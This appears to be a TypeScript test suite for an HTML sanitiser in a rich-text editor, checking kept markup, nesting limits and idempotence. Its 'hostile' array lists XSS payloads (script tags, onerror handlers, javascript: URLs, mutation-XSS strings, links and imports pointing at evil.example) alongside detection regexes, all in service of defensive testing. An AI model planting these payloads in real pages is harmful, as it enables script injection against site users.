import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { format } from './format.ts'
import { plainText } from './plain-text.ts'

function clean(html: string): string | undefined {
  const cleaned = cleanHtml(html)
  if ('problem' in cleaned) throw new Error(cleaned.problem)
  return cleaned.value === undefined ? undefined : String(cleaned.value)
}

describe('what is kept', () => {
  test.each(format.samples())('sample %#: every block is kept as it is', html => {
    expect(clean(html)).toBe(html)
  })

  test.each([
    ['[2-3.10-01] info block', '<aside data-type="alert">This is alert block...</aside>'],
    ['[2-3.10-03] image', '<p><img src="/api/files/a1" width="120" height="80" data-align="right"></p>'],
    [
      '[2-3.10-04] list with its indicator',
      '<ol type="a" start="3" data-nest-indicator="true" data-prefix="§" data-persist-prefix="true"><li>x</li></ol>',
    ],
    ['[2-3.10-05] styled text', '<p><span style="color: rgb(1, 2, 3); background-color: yellow">x</span></p>'],
    [
      '[2-3.10-06] table',
      '<table data-borders="first_row_and_column" data-align="right"><colgroup><col width="100"></colgroup><tbody><tr><td rowspan="2"><p>x</p></td></tr></tbody></table>',
    ],
    [
      '[2-3.10-07] file block, link, divider',
      '<figure data-file="f1">a.pdf</figure><p><a href="/data/Orders">x</a></p><hr>',
    ],
    ['code block', '<pre data-language="ts">\n\n  if (a &lt; b) {}\n</pre>'],
    ['blank line', '<p>a</p><p><br></p><p></p><p>b</p>'],
  ])('%s', (_name, html) => {
    expect(clean(html)).toBe(html)
  })

  test.each([
    ['text alone', 'plain', '<p>plain</p>'],
    [
      'other words for marks',
      '<p><b>a</b><i>b</i><del>c</del><ins>d</ins></p>',
      '<p><strong>a</strong><em>b</em><s>c</s><u>d</u></p>',
    ],
    ['wrappers', '<div class="x"><section>a<p>b</p></section> </div>', '<p>a</p><p>b</p>'],
    ['a mark around blocks', '<b style="font-weight:normal"><p>a</p><p>b</p></b>', '<p>a</p><p>b</p>'],
    ['blocks in a quote', '<blockquote>\n<p>a</p>\n<p>b</p>\n</blockquote>', '<blockquote>a<br>b</blockquote>'],
    ['small headings', '<h6 id="x">a</h6>', '<h4>a</h4>'],
    ['a mark in itself', '<p><b>a<strong>b</strong></b></p>', '<p><strong>ab</strong></p>'],
    [
      'parts of a table',
      '<table><thead><tr><th>a<tbody><tr><td>b</table>',
      '<table><tbody><tr><th><p>a</p></th></tr><tr><td><p>b</p></td></tr></tbody></table>',
    ],
    [
      'a table in a table',
      '<table><tr><td><table><tr><td>a</table></table>',
      '<table><tbody><tr><td><p>a</p></td></tr></tbody></table>',
    ],
    [
      'a size that is none',
      '<img src=/api/files/a width=9999999 alt="a\n b">',
      '<p><img src="/api/files/a" alt="a b"></p>',
    ],
  ])('%s', (_name, given, html) => {
    expect(clean(given)).toBe(html)
  })

  test('[2-5-44] an editor that holds only an empty paragraph gives no value', () => {
    for (const html of [
      '<p></p>',
      '<p><br></p>',
      ' ',
      '<ul><li></li></ul>',
      '<script>x</script>',
      '<div>&#32;</div>',
    ]) {
      expect([html, clean(html)]).toEqual([html, undefined])
    }
  })

  test('[2-5-47] lists are at most five deep, what is below stays as text', () => {
    const html = clean(`${'<ul><li>x'.repeat(8)}`) ?? ''
    expect(html.split('<ul>')).toHaveLength(6)
    expect(html.split('x')).toHaveLength(9)
  })
})

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x" target=_top>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="//evil.example"><input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span style="color: red; position: fixed; inset: 0; background-image: url(//evil.example)">x</span>',
  '<span style="color: expression(alert(1))">x</span>',
  '<style>@import "//evil.example"</style>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example"><link rel=stylesheet href=//evil.example>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><script>alert(1)</script>" id=x class=y onclick=alert(1) data-x=1>x</p>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<figure data-file="../../x">a</figure><figure data-file="x" onclick=y>a</figure>',
  '<table background="//evil.example"><td background=x>a</table>',
  '<a\u000bhref="javascript:alert(1)"\u000conclick=x>x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<p><plaintext>',
]

/** Markup that a browser cannot read as anything else: known elements, known attributes, nothing unescaped. */
const written =
  /^(?:[^<>]|<\/(?:p|h[1-4]|blockquote|aside|pre|ul|ol|li|table|colgroup|tbody|tr|th|td|figure|a|span|strong|em|u|s|code|sub|sup)>|<(?:p|h[1-4]|blockquote|aside|pre|ul|ol|li|table|colgroup|col|tbody|tr|th|td|figure|img|br|hr|a|span|strong|em|u|s|code|sub|sup)(?: (?:href|src|alt|width|height|style|type|start|colspan|rowspan|data-(?:type|language|align|file|nest-indicator|prefix|persist-prefix|list|checked|borders))="[^"<>]*")*>)*$/
const unsafe = /(?:href|src)="(?!https?:\/\/|mailto:|tel:|\/[^/\\])|style="[^"]*(?:url|expression|position)/i

describe('S69 S70 hostile markup is neutralised', () => {
  test.each(hostile)('%s', html => {
    const cleaned = clean(html) ?? ''
    expect(cleaned).toMatch(written)
    expect(cleaned).not.toMatch(unsafe)
    expect(clean(cleaned)).toBe(cleaned === '' ? undefined : cleaned)
  })
})

describe('S78 depth and width have limits', () => {
  test.each([
    ['div', '<div>'.repeat(100_000)],
    ['marks', '<b><i>'.repeat(50_000)],
    ['marks across paragraphs', Array.from({ length: 50_000 }, (_, place) => `<p><b id=${place}>`).join('')],
    ['links', '<a href=/x>'.repeat(100_000)],
    ['tables', '<table><tr><td>'.repeat(30_000)],
    ['tables without cells', '<table>'.repeat(100_000)],
    ['lists', '<ul><li>'.repeat(50_000)],
    ['svg', '<svg><g>'.repeat(50_000)],
    ['templates', '<template>'.repeat(100_000)],
    ['misnested', '<b><p></b><i></p>'.repeat(25_000)],
    ['wide', '<p>x</p>'.repeat(100_000)],
    ['end tags', '</p></b></div>'.repeat(50_000)],
    ['attributes', `<p ${Array.from({ length: 100_000 }, (_, place) => `a${place}=1`).join(' ')}>x</p>`],
    ['styles', `<span style="${'color:red;'.repeat(100_000)}">x</span>`],
    ['entities', '&amp;lt;'.repeat(100_000)],
  ])('%s', (_name, html) => {
    const started = performance.now()
    const cleaned = cleanHtml(html)
    expect(performance.now() - started).toBeLessThan(5000)
    if ('value' in cleaned && cleaned.value) expect(clean(String(cleaned.value))).toBe(cleaned.value)
  })

  test('too deep and too wide have messages', () => {
    expect(cleanHtml('<div>'.repeat(33))).toEqual({ problem: 'Is nested too deeply' })
    expect(cleanHtml('<div>'.repeat(32))).toHaveProperty('value')
    expect(cleanHtml('<br>'.repeat(20_001))).toEqual({ problem: 'Holds more than 20,000 elements' })
  })
})

const soup = fc
  .array(
    fc.oneof(
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          'a',
          ' ',
          '\n',
          'ß',
          '&amp;',
          '&lt;',
          '&#13;',
          '&nbsp;',
          '\r\n',
          '😀',
          '"',
          '<',
          '>',
          '&',
        ),
      },
      {
        weight: 6,
        arbitrary: fc
          .constantFrom(
            ...'p h1 h5 blockquote aside pre ul ol li table thead tbody tr td th colgroup col hr br img a span b strong i u s code sub div section figure svg math title style dl dd font button caption center'.split(
              ' ',
            ),
          )
          .chain(name =>
            fc.constantFrom(
              `<${name}>`,
              `</${name}>`,
              `<${name} data-type=info data-list=check data-checked=true href="/x" src=/api/files/a style="color:red;font-size: 12px" data-file=f colspan=2 width=3 type=A>`,
            ),
          ),
      },
      { weight: 1, arbitrary: fc.constantFrom(...hostile) },
    ),
    { maxLength: 30 },
  )
  .map(parts => parts.join(''))

test('what was cleaned is cleaned to the same, whatever came in', () => {
  let kept = 0
  fc.assert(
    fc.property(soup, html => {
      const once = cleanHtml(html)
      if ('problem' in once || once.value === undefined) return
      kept += 1
      expect(String(once.value)).toMatch(written)
      expect(String(once.value)).not.toMatch(unsafe)
      expect(cleanHtml(once.value)).toEqual(once)
    }),
    { numRuns: 10_000 },
  )
  expect(kept).toBeGreaterThan(5000)
})

test('words are what is read, without markup', () => {
  expect(plainText('<ol type="a"><li>one<ul><li>two</li></ul></li></ol><p></p><p>&amp;lt;</p>')).toBe('one\ntwo\n&lt;')
  expect(plainText('<h1>A &amp; B</h1><ul><li>one</li><li>two &lt;3</li></ul><p>x<br>y</p>')).toBe(
    'A & B\none\ntwo <3\nx\ny',
  )
})

test('text without markup becomes paragraphs', () => {
  expect(format.fromText('a < b\r\n\r\n& c')).toEqual({ value: '<p>a &lt; b</p><p></p><p>&amp; c</p>' })
  expect(format.fromText('<p>as it is</p>')).toEqual({ value: '<p>as it is</p>' })
  expect(format.display('<p>a &lt; b</p>')).toBe('a < b')
  expect(format.check('<p>x</p>')).toEqual({ value: '<p>x</p>' })
})

test('files that a text shows are known, and no other', () => {
  const shown =
    '<p><img src="/api/files/a-1?w=300" alt="src=&quot;/api/files/no"><img src="https://example.com/api/files/x"></p>'
  expect(
    format.fileIds(`${shown}<p>data-file=&quot;z&quot; <img src="/api/files/a-1"></p><figure data-file="b">c</figure>`),
  ).toEqual(['a-1', 'b'])
})
